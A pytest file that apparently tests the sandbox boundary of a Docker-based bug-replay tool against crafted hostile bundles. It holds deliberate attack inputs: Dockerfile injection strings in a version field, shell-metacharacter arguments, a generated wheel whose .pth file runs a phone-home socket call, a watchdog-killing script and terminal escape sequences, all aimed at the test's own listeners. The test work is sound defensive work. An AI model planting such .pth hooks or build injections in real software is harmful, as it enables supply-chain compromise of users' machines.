"""The docker replay's trust boundary, each finding of issue 9 (1, 3, 4, 5, 8) as a crafted
variant of one real captured bundle: what reaches the Dockerfile is checked, the bundle only
asks for a network (a GPU, more time), a signal or a kill never leaves a container running,
a malformed bundle leaves no temp dir, and a huge pin list is refused before any download.

The only network peers here are the test's own: a TCP listener on the Docker bridge
gateway (where a container or a build step could reach the host) and a package index on
loopback that knows no packages.
"""

from __future__ import annotations

import copy
import http.server
import ipaddress
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

from reprex.bundle import Bundle
from reprex.capture.pipeline import CaptureOptions, capture_command
from reprex.replay import ReplayOptions, replay
from reprex.replay.base import MAX_PINS, MAX_WORK_BYTES, run_timeout

pytestmark = pytest.mark.docker

PY = sys.executable
REPO = Path(__file__).resolve().parent.parent
BUNDLE_IDS: set[str] = set()

BOOM = """
    def main():
        raise RuntimeError("boom")
    main()
"""


# -- the test's own peers ------------------------------------------------------------------

class Listener:
    """A TCP listener that remembers the first line of every connection."""

    def __init__(self, host: str):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((host, 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.host, self.port = host, self.sock.getsockname()[1]
        self.hits: list[str] = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    data = conn.recv(200)
                except OSError:
                    data = b""
            self.hits.append(data.decode("ascii", "replace").strip() or "<connected>")

    def close(self) -> None:
        self._stop = True
        self._thread.join(2)
        self.sock.close()


def bridge_gateway(docker_client) -> str:
    ipam = (docker_client.networks.get("bridge").attrs.get("IPAM") or {}).get("Config") or []
    for cfg in ipam:
        if cfg.get("Gateway"):
            return cfg["Gateway"]
        if cfg.get("Subnet"):
            return str(next(ipaddress.ip_network(cfg["Subnet"]).hosts()))
    raise RuntimeError("the bridge network has no IPv4 subnet")


@pytest.fixture
def gateway_listener(docker_client):
    listener = Listener(bridge_gateway(docker_client))
    yield listener
    listener.close()


@pytest.fixture
def empty_index(monkeypatch):
    """pip on the host sees only an index on loopback that has no packages (404 for all)."""

    class NotFound(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), NotFound)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("PIP_INDEX_URL", f"http://127.0.0.1:{server.server_address[1]}/simple/")
    for name in ("PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "PIP_CONSTRAINT"):
        monkeypatch.delenv(name, raising=False)
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def private_tmp(tmp_path, monkeypatch) -> Path:
    """The temp dir reprex's mkdtemp calls use, this test's alone (to count leftovers)."""
    path = tmp_path / "tmp"
    path.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(path))
    monkeypatch.setenv("TMPDIR", str(path))
    return path


# -- one real bundle, and its variants ---------------------------------------------------------

@pytest.fixture(scope="module")
def boom_bundle(tmp_path_factory) -> Bundle:
    venv = tmp_path_factory.mktemp("venv") / "venv"
    subprocess.run([PY, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=120)
    work = tmp_path_factory.mktemp("boom")
    (work / "app.py").write_text(textwrap.dedent(BOOM))
    result = capture_command([str(venv / "bin" / "python"), "app.py"], CaptureOptions(tee=False, timeout=120),
                             cwd=str(work))
    assert result.bundle is not None, result.message
    assert result.bundle.manifest["expect"]["signature"]["types"] == ["RuntimeError"]
    return result.bundle


@pytest.fixture(scope="module", autouse=True)
def _no_leftover_containers(docker_client):
    yield
    left = [c.name for c in docker_client.containers.list(all=True, filters={"label": "org.reprex=1"})
            if (c.labels or {}).get("org.reprex.bundle") in BUNDLE_IDS]
    assert not left, f"leftover replay containers: {left}"


def variant(bundle: Bundle, script: str | None = None, *, manifest: dict | None = None,
            files: dict[str, bytes] | None = None, finalize: bool = True) -> Bundle:
    """The bundle with its script, manifest fields or entries replaced (re-finalized, so the
    hostile content is what gets judged, not a stale id)."""
    m = copy.deepcopy(bundle.manifest)
    for key, value in (manifest or {}).items():
        if isinstance(value, dict) and isinstance(m.get(key), dict):
            m[key] = {**m[key], **value}
        else:
            m[key] = value
    f = dict(bundle.files)
    if script is not None:
        f["files/app.py"] = textwrap.dedent(script).encode()
    f.update(files or {})
    out = Bundle(manifest=m, files=f)
    return out.finalize() if finalize else out


def hostile(body: str) -> str:
    """A program that does `body`, then fails like BOOM (same signature: reproduced)."""
    return textwrap.dedent(body) + textwrap.dedent(BOOM)


def run_replay(bundle: Bundle, base_image: str, **kw):
    BUNDLE_IDS.add(bundle.id)
    lines: list[str] = []
    result = replay(bundle, ReplayOptions(backend="docker", image=kw.pop("image", base_image), **kw),
                    progress=lines.append)
    return result, lines


def connect_code(host: str, port: int, word: str) -> str:
    """Python that sends `word` to host:port, written without dots (a version string is cut
    at its second dot) or double quotes, for a build step's `python3 -c "..."`: the
    address as one number, attributes through getattr."""
    return (f"from socket import *;getattr(create_connection(('{int(ipaddress.IPv4Address(host))}',{port}),3),"
            f"'send')(b'{word}')")


def assert_refused_one_line(result, start: str) -> None:
    assert result.verdict == "infra-error", (result.verdict, result.reason)
    assert result.reason.startswith(start), result.reason
    assert "\n" not in result.reason and "Traceback" not in result.reason


# -- 1: nothing from a bundle is spliced into the Dockerfile ----------------------------------------

def version_payloads(host: str, port: int) -> dict[str, str]:
    call = connect_code(host, port, "build-step")
    return {
        # closes the version check's quote, ends that RUN, adds a RUN of its own (valid shell)
        "newline-run": f'3.11" ]; then true; fi; true\nRUN touch /reprex-build-marker; python3 -c "{call}"\n'
                       'RUN true || [ "',
        "command-substitution": f'3.11$(python3 -c "{call}")',
        "backticks": f'3.11`python3 -c "{call}"`',
        "carriage-return": f'3.11\rRUN python3 -c "{call}"',
        "trailing-text": "3.11 ; touch /reprex-build-marker",
    }


@pytest.mark.parametrize("kind", ["newline-run", "command-substitution", "backticks", "carriage-return",
                                  "trailing-text"])
def test_a_python_version_that_breaks_out_of_the_dockerfile_is_refused_before_a_build(
        boom_bundle, base_image, gateway_listener, kind, cache):
    version = version_payloads(gateway_listener.host, gateway_listener.port)[kind]
    bundle = variant(boom_bundle, manifest={"python": {"version": version}})
    result, lines = run_replay(bundle, base_image)
    time.sleep(0.5)  # a build step's connection would have landed long before this
    assert gateway_listener.hits == [], "a build step ran the bundle's code"
    assert_refused_one_line(result, "refusing the bundle: python.version ")
    assert "is not a Python version" in result.reason
    assert not any(line.startswith(("build", "downloading", "pulling")) for line in lines), lines


def test_a_python_version_never_names_another_image(boom_bundle, base_image, cache):
    """Without --image, the version names python:X.Y-slim: a version that is an image
    reference of its own (or a registry path) is refused before any pull."""
    for version in ("3.11-slim@sha256:" + "0" * 64, "3.11/../evil", "3.11:latest", "03.011x"):
        result, lines = run_replay(variant(boom_bundle, manifest={"python": {"version": version}}), "unused",
                                   image=None)
        assert_refused_one_line(result, "refusing the bundle: python.version ")
        assert not any(line.startswith("pull") for line in lines), lines


def test_good_python_versions_still_name_their_image():
    from reprex.replay.base import python_xy

    for version, xy in [("3.11.2", "3.11"), ("3.13.0rc1", "3.13"), ("3.12.0+", "3.12"), ("3.9", "3.9")]:
        stub = Bundle(manifest={"python": {"version": version}})
        assert python_xy(stub) == xy


def test_an_image_name_that_is_not_a_reference_is_refused(boom_bundle, base_image, cache):
    result, lines = run_replay(boom_bundle, base_image, image=base_image + "\nRUN touch /reprex-build-marker")
    assert result.verdict == "infra-error" and result.reason.startswith("--image "), result.reason
    assert "not an image reference" in result.reason and "\n" not in result.reason
    assert not any(line.startswith("build") for line in lines), lines


def test_entry_arguments_reach_the_program_as_data(boom_bundle, base_image, cache):
    args = ["app.py", "$(touch /tmp/reprex-arg-marker)", "; touch x #", "`id`", "a\nb", "--", "-c"]
    script = """
        import json, os, sys
        print("ARGV " + json.dumps(sys.argv[1:]), flush=True)
        print("MARKER", os.path.exists("/tmp/reprex-arg-marker"), flush=True)
    """
    bundle = variant(boom_bundle, hostile(script), manifest={"entry": {"python_args": args}})
    result, _ = run_replay(bundle, base_image)
    assert result.verdict == "reproduced", (result.reason, result.logs)
    line = next(l for l in result.logs.splitlines() if l.startswith("ARGV "))
    assert json.loads(line[5:]) == args[1:]
    assert "MARKER False" in result.logs


def test_recorded_environment_names_cannot_set_other_variables():
    """An environment.json name holding '=' (or not a name at all) would set another
    variable, the replay machinery's own among them: such names are dropped."""
    from reprex.replay.base import replay_environ

    values = {"PATH=/tmp/work:/usr/bin": "x", "REPREX_RECORD_DIR": "/tmp", "PYTHONPATH": "/tmp/work",
              "A B": "1", "": "2", "NUL": "a\0b", "GOOD_NAME": "kept", "PYTHONINSPECT": "1"}
    env = {"env": {"status": "ok", "value": {"values": values}}}
    bundle = Bundle(manifest={}, files={"environment.json": json.dumps(env).encode()})
    assert replay_environ(bundle) == {"GOOD_NAME": "kept", "PYTHONINSPECT": "1"}


def test_a_malformed_bundle_id_is_refused(boom_bundle, base_image, cache):
    bundle = variant(boom_bundle, finalize=False)
    bundle.manifest["id"] = "../" + "a" * 61
    result, _ = run_replay(bundle, base_image)
    assert_refused_one_line(result, "refusing the bundle: id ")


# -- 3: a bundle asks for a network, the user grants it ----------------------------------------

def test_a_network_the_bundle_asks_for_is_not_granted_without_the_user(boom_bundle, base_image, gateway_listener,
                                                                        cache):
    script = f"""
        import socket
        try:
            socket.create_connection(({gateway_listener.host!r}, {gateway_listener.port}), 3).sendall(b"escaped")
            print("NET connected", flush=True)
        except OSError as exc:
            print("NET", type(exc).__name__, flush=True)
    """
    bundle = variant(boom_bundle, hostile(script), manifest={"network": True})
    result, lines = run_replay(bundle, base_image)
    assert result.verdict == "reproduced", (result.reason, result.logs)
    assert "NET connected" not in result.logs
    assert gateway_listener.hits == []
    assert "asked for a network" in result.reason and "--network bridge" in result.reason
    assert any("asked for a network" in line for line in lines), lines
    # the user's grant does reach it: the check above can fail
    granted, _ = run_replay(bundle, base_image, network="bridge")
    assert granted.verdict == "reproduced", (granted.reason, granted.logs)
    assert "NET connected" in granted.logs
    deadline = time.monotonic() + 10
    while not gateway_listener.hits and time.monotonic() < deadline:
        time.sleep(0.1)
    assert gateway_listener.hits == ["escaped"]
    assert "asked for a network" not in granted.reason


def pth_wheel(folder: Path, host: str, port: int) -> Path:
    """A wheel whose .pth file phones the listener whenever its venv's Python starts: what a
    pinned release on a public index could carry."""
    import base64
    import hashlib
    import zipfile

    code = f"import socket; socket.create_connection(({host!r}, {port}), 3).sendall(b'build-step')"
    files = {"phonehome.pth": f"import os; exec({code!r}) if os.getuid() == 0 else None\n",
             "phonehome-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: phonehome\nVersion: 1.0\n",
             "phonehome-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
                                              "Tag: py3-none-any\n"}
    record = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(text.encode())}")
    files["phonehome-1.0.dist-info/RECORD"] = "\n".join(record + ["phonehome-1.0.dist-info/RECORD,,"]) + "\n"
    wheel = folder / "phonehome-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        for name, text in files.items():
            zf.writestr(name, text)
    return wheel


def test_the_image_step_runs_without_a_network(boom_bundle, base_image, gateway_listener, tmp_path, cache):
    """The image step runs the venv's Python as root (byte-compiling, the facts): a .pth in an
    installed wheel runs there. It gets no network (the install is offline anyway)."""
    wheel = pth_wheel(tmp_path, gateway_listener.host, gateway_listener.port)
    result, lines = run_replay(boom_bundle, base_image, with_specs=[str(wheel)])
    assert any(line.startswith("build") for line in lines), lines  # an image step ran with the wheel in it
    assert result.verdict == "reproduced", (result.verdict, result.reason)
    time.sleep(0.5)
    assert gateway_listener.hits == [], "a build step reached the network"


def gpu_bundle(bundle: Bundle) -> Bundle:
    env = {"cuda": {"status": "ok", "value": {"frameworks": {"torch": {"version": "2.3.1+cu121", "cuda": "12.1"}}}}}
    return variant(bundle, manifest={"gpu": {"count": 1, "models": ["NVIDIA A10G"], "driver": "535.104.05",
                                             "compute_capabilities": ["8.6"], "cuda": "12.2"}},
                   files={"environment.json": json.dumps(env).encode()})


def test_a_gpu_the_bundle_asks_for_is_not_granted_without_the_user(boom_bundle, base_image, docker_client, cache):
    result, lines = run_replay(gpu_bundle(boom_bundle), base_image)
    assert result.verdict == "env-incompatible", result.reason
    assert "asks for one" in result.reason and "--gpus all" in result.reason
    assert not any(line.startswith("checking GPU access") for line in lines), lines
    # with the grant, the request goes to the daemon (which has no GPU here)
    granted, lines = run_replay(gpu_bundle(boom_bundle), base_image, gpus="all")
    assert granted.verdict == "env-incompatible" and "NVIDIA runtime" in granted.reason, granted.reason
    assert any(line.startswith("checking GPU access") for line in lines), lines


def test_more_time_the_bundle_asks_for_is_capped():
    run = json.dumps({"outcome": {"duration_s": 1e9}}).encode()
    bundle = Bundle(manifest={"expect": {"outcome": "timeout"}}, files={"run.json": run})
    assert run_timeout(bundle, ReplayOptions()) == 300.0
    assert run_timeout(bundle, ReplayOptions(timeout=1e4)) == 1e4  # the user grants more
    nan = Bundle(manifest={"expect": {"outcome": "timeout"}}, files={"run.json": b'{"outcome": {"duration_s": NaN}}'})
    assert run_timeout(nan, ReplayOptions()) == 300.0
    short = Bundle(manifest={"expect": {"outcome": "timeout"}}, files={"run.json": b'{"outcome": {"duration_s": 7}}'})
    assert run_timeout(short, ReplayOptions()) == 7.0


# -- 4: SIGTERM, SIGINT and SIGKILL during a docker replay -----------------------------------------

HANG = """
    import time
    def wait_forever():
        print("hanging", flush=True)
        while True:
            time.sleep(3600)
    wait_forever()
"""


def start_cli_replay(bundle: Bundle, base_image: str, tmp_path: Path, timeout: float, *extra: str):
    path = bundle.write(tmp_path / "hang.reprex.zip")
    tmpdir = tmp_path / "cli-tmp"
    tmpdir.mkdir()
    env = {**os.environ, "TMPDIR": str(tmpdir)}
    proc = subprocess.Popen([PY, "-m", "reprex", "replay", str(path), "--backend", "docker", "--image", base_image,
                             "--timeout", str(timeout), *extra], cwd=REPO, env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    return proc, tmpdir


def running(docker_client, bundle: Bundle) -> list:
    return docker_client.containers.list(filters={"label": f"org.reprex.bundle={bundle.id}", "status": "running"})


def wait_until_running(docker_client, bundle: Bundle, proc) -> None:
    deadline = time.monotonic() + 180
    while time.monotonic() < deadline:
        found = running(docker_client, bundle)
        if found and b"hanging" in found[0].logs():
            return
        assert proc.poll() is None, proc.communicate()
        time.sleep(0.2)
    raise AssertionError("the replay's container never started")


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_stops_the_replay_and_removes_its_container_and_temp_dirs(boom_bundle, base_image, docker_client,
                                                                           tmp_path, cache, sig):
    bundle = variant(boom_bundle, textwrap.dedent(HANG) + f"# {sig.name}\n")  # a bundle (and id) of its own
    BUNDLE_IDS.add(bundle.id)
    proc, tmpdir = start_cli_replay(bundle, base_image, tmp_path, timeout=120)
    try:
        wait_until_running(docker_client, bundle, proc)
        assert sorted(p.name.split("-")[1] for p in tmpdir.iterdir()) == ["in", "record"]
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=60)
        assert proc.returncode == 128 + sig, err
        assert f"interrupted by {signal.Signals(sig).name}" in err and "Traceback" not in err
        assert not docker_client.containers.list(all=True, filters={"label": f"org.reprex.bundle={bundle.id}"})
        assert list(tmpdir.iterdir()) == []
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()


def host_watchdogs(container_id: str) -> list[int]:
    """Pids of the host-side watchdogs (reprex.replay.docker.watchdog) watching this container."""
    found = []
    for pid in os.listdir("/proc"):
        try:
            args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if pid.isdigit() and container_id.encode() in args and any(a.endswith(b"/watchdog_child.py") for a in args):
            found.append(int(pid))
    return found


def test_a_killed_replay_leaves_no_running_container_past_its_timeout(boom_bundle, base_image, docker_client,
                                                                      tmp_path, cache):
    """SIGKILL to reprex and to its host-side watchdog (a CI runner killing everything):
    nothing on the host is left to clean up; the run script's watchdog ends the container
    at the timeout plus its margin."""
    from reprex.replay.docker.layout import WATCHDOG_MARGIN_S

    bundle = variant(boom_bundle, textwrap.dedent(HANG) + "# SIGKILL\n")
    BUNDLE_IDS.add(bundle.id)
    timeout = 4
    proc, _ = start_cli_replay(bundle, base_image, tmp_path, timeout=timeout)
    try:
        wait_until_running(docker_client, bundle, proc)
        (container,) = running(docker_client, bundle)
        watchdogs = host_watchdogs(container.id)
        assert len(watchdogs) == 1, watchdogs
        killed_at = time.monotonic()
        os.kill(watchdogs[0], signal.SIGKILL)
        proc.kill()
        proc.communicate(timeout=30)
        deadline = killed_at + timeout + WATCHDOG_MARGIN_S + 15
        while running(docker_client, bundle) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not running(docker_client, bundle), "the container outlived the replay's timeout"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
        for c in docker_client.containers.list(all=True, filters={"label": f"org.reprex.bundle={bundle.id}"}):
            c.remove(force=True)


def test_a_signal_during_setup_leaves_no_temp_dir(boom_bundle, base_image, tmp_path, cache):
    """SIGTERM while a `--with` checkout is being built on the host (the user's own code, a
    slow setup.py): the `reprex-with-*` dir goes too, and the build is stopped."""
    project = tmp_path / "slowpkg"
    project.mkdir()
    (project / "setup.py").write_text("import time\ntime.sleep(300)\n"
                                      "from setuptools import setup\nsetup(name='slowpkg', version='1.0')\n")
    bundle = variant(boom_bundle, textwrap.dedent(BOOM) + "# setup\n")
    proc, tmpdir = start_cli_replay(bundle, base_image, tmp_path, 60, "--with", str(project))
    try:
        deadline = time.monotonic() + 120
        while not any(p.name.startswith("reprex-with-") for p in tmpdir.iterdir()):
            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
            time.sleep(0.1)
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
        assert proc.returncode == 143, err
        assert [p.name for p in tmpdir.iterdir() if p.name.startswith("reprex-")] == []
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()


def test_shielded_cleanup_holds_a_signal_until_it_is_done():
    from reprex.interrupt import Interrupted, on_signals, shielded

    steps = []
    before = signal.getsignal(signal.SIGTERM)  # SIG_DFL, or Ray's handler once a Ray test ran in this process
    with pytest.raises(Interrupted) as info:
        with on_signals():
            with shielded():
                os.kill(os.getpid(), signal.SIGTERM)
                time.sleep(0.05)
                steps.append("cleanup went on")
            steps.append("not reached")
    assert steps == ["cleanup went on"]
    assert info.value.exit_code == 143
    assert signal.getsignal(signal.SIGTERM) == before  # the previous handler is back


# -- 5: a replay's inputs are budgeted, and no temp dir outlives it ---------------------------------

def test_inputs_over_the_budget_are_refused_before_anything_is_written(boom_bundle, base_image, private_tmp,
                                                                      docker_client, cache):
    """250 entries of 1 MiB each (each under the reader's ratio check): 250 MiB written per replay."""
    mib = b"\0" * (1 << 20)
    bundle = variant(boom_bundle, files={f"files/blob-{i:03d}.bin": mib for i in range(250)})
    assert sum(len(v) for v in bundle.input_files().values()) > MAX_WORK_BYTES
    result, _ = run_replay(bundle, base_image)
    assert_refused_one_line(result, "refusing the bundle: its files/ hold ")
    assert list(private_tmp.iterdir()) == []
    assert not docker_client.containers.list(all=True, filters={"label": f"org.reprex.bundle={bundle.id}"})


def test_inputs_that_cannot_be_laid_out_leave_no_temp_dir(boom_bundle, base_image, private_tmp, cache):
    """`files/data` is a file and `files/data/x.csv` needs it to be a directory: the error
    comes between making the inputs dir and running the container."""
    bundle = variant(boom_bundle, files={"files/data": b"a file", "files/data/x.csv": b"1,2\n"})
    result, _ = run_replay(bundle, base_image)
    assert_refused_one_line(result, "refusing the bundle: its files/ can't be laid out")
    assert list(private_tmp.iterdir()) == []


# -- 8: bounded setup work ---------------------------------------------------------------------------

def test_thousands_of_pins_are_refused_before_any_download(boom_bundle, base_image, empty_index, cache):
    pins = "".join(f"pkg-{i}==1.0\n" for i in range(3000))
    result, lines = run_replay(variant(boom_bundle, files={"requirements.txt": pins.encode()}), base_image)
    assert_refused_one_line(result, "refusing the bundle: its requirements.txt has 3000 pins")
    assert f"over the {MAX_PINS}" in result.reason
    assert not any(line.startswith(("downloading", "build")) for line in lines), lines


def test_the_setup_has_one_time_budget_for_every_download(boom_bundle, base_image, empty_index, cache):
    """40 pins the index doesn't have: the batch fails, then each is tried on its own (a
    download and an index query each: 80 pip runs, each well within 5 s, together far
    over) -- all within one setup budget."""
    pins = "".join(f"reprex-absent-{i}==1.0\n" for i in range(40))
    result, lines = run_replay(variant(boom_bundle, files={"requirements.txt": pins.encode()}), base_image,
                               setup_timeout=5)
    assert result.verdict == "infra-error", result.reason
    assert result.reason == "setting up the replay took longer than its 5s setup timeout", result.reason
    assert any(line.startswith("downloading 40 pinned wheels") for line in lines), lines


# -- what `reprex replay` prints of a stranger's program is data ----------------------------------

def test_replay_output_cannot_drive_the_terminal(boom_bundle, base_image, tmp_path, cache):
    """The replayed program's output and message reach the user's terminal: escape
    sequences (title, hyperlink, clear screen) are shown escaped, rich markup stays text."""
    script = r'''
        print("\x1b]0;pwned-title\x07\x1b[2J\x1b[31mred", flush=True)
        def fail():
            raise ValueError("[/INST] [bold]x \x1b]8;;http://example.invalid/\x07link\x1b]8;;\x07")
        fail()
    '''
    bundle = variant(boom_bundle, script)
    BUNDLE_IDS.add(bundle.id)
    path = bundle.write(tmp_path / "loud.reprex.zip")
    proc = subprocess.run([PY, "-m", "reprex", "replay", str(path), "--backend", "docker", "--image", base_image],
                          cwd=REPO, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 1, proc.stderr  # different: ValueError, not RuntimeError
    err = proc.stderr
    assert "different on docker" in err
    assert "\x1b]" not in err and "\x07" not in err and "\x1b[2J" not in err, repr(err[-2000:])
    assert "\\x1b]0;pwned-title" in err  # shown, escaped
    assert "[/INST] [bold]x" in err  # in the table, as text
    assert "MarkupError" not in err and str(REPO / "reprex") not in err  # no traceback of reprex's own


KILL_THE_WATCHDOG = """
    import os, signal, time
    # the run script's watchdog runs as this program's uid: find its `sleep` and kill it and its shell
    for pid in os.listdir("/proc"):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
            if pid.isdigit() and cmd[0] == b"sleep":
                parent = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
                os.kill(parent, signal.SIGKILL)
                os.kill(int(pid), signal.SIGKILL)
                print("killed the watchdog", flush=True)
        except (OSError, IndexError, ValueError):
            pass
    print("hanging", flush=True)
    while True:
        time.sleep(3600)
"""


def test_a_killed_replay_of_a_program_that_killed_its_watchdog_still_ends(boom_bundle, base_image, docker_client,
                                                                          tmp_path, cache):
    """The in-container watchdog can be killed by the program (same uid); the host-side one
    can't, and removes the container once reprex is gone without having done so."""
    from reprex.replay.docker.layout import WATCHDOG_MARGIN_S

    bundle = variant(boom_bundle, KILL_THE_WATCHDOG)
    BUNDLE_IDS.add(bundle.id)
    timeout = 4
    proc, _ = start_cli_replay(bundle, base_image, tmp_path, timeout=timeout)
    try:
        wait_until_running(docker_client, bundle, proc)
        (container,) = running(docker_client, bundle)
        assert b"killed the watchdog" in container.logs()
        killed_at = time.monotonic()
        proc.kill()
        proc.communicate(timeout=30)
        deadline = killed_at + timeout + 2 * WATCHDOG_MARGIN_S + 15
        while running(docker_client, bundle) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not running(docker_client, bundle), "the container outlived the replay's timeout"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
        for c in docker_client.containers.list(all=True, filters={"label": f"org.reprex.bundle={bundle.id}"}):
            c.remove(force=True)


def test_a_url_pin_is_downloaded_only_with_the_users_grant(boom_bundle, base_image, empty_index, tmp_path, cache,
                                                           monkeypatch):
    """`name @ https://HOST/...whl` makes the host download from an address the bundle chose (here
    a listener on loopback): without --allow-urls the replay is env-incompatible, naming it."""
    listener = Listener("127.0.0.1")
    try:
        monkeypatch.setenv("PIP_RETRIES", "0")
        monkeypatch.setenv("PIP_TIMEOUT", "5")
        at = f"127.0.0.1:{listener.port}"
        bundle = variant(boom_bundle, files={
            "requirements.txt": f"evilwheel @ https://{at}/evilwheel-1.0-py3-none-any.whl\n".encode()})
        BUNDLE_IDS.add(bundle.id)
        path = bundle.write(tmp_path / "urlpin.reprex.zip")
        args = [PY, "-m", "reprex", "replay", str(path), "--backend", "docker", "--image", base_image, "--json"]
        proc = subprocess.run(args, capture_output=True, text=True, timeout=300)
        assert proc.returncode == 3, proc.stderr
        data = json.loads(proc.stdout)
        assert data["verdict"] == "env-incompatible"
        assert at in data["reason"] and "--allow-urls" in data["reason"] and "\n" not in data["reason"]
        assert listener.hits == []
        # the grant: this machine then fetches from there (the download fails: an infra-error)
        proc = subprocess.run(args + ["--allow-urls"], capture_output=True, text=True, timeout=300)
        assert json.loads(proc.stdout)["verdict"] == "infra-error", proc.stderr
        deadline = time.monotonic() + 30
        while not listener.hits and time.monotonic() < deadline:
            time.sleep(0.1)
        assert listener.hits, "the granted URL pin was not fetched: the check above proves nothing"
    finally:
        listener.close()
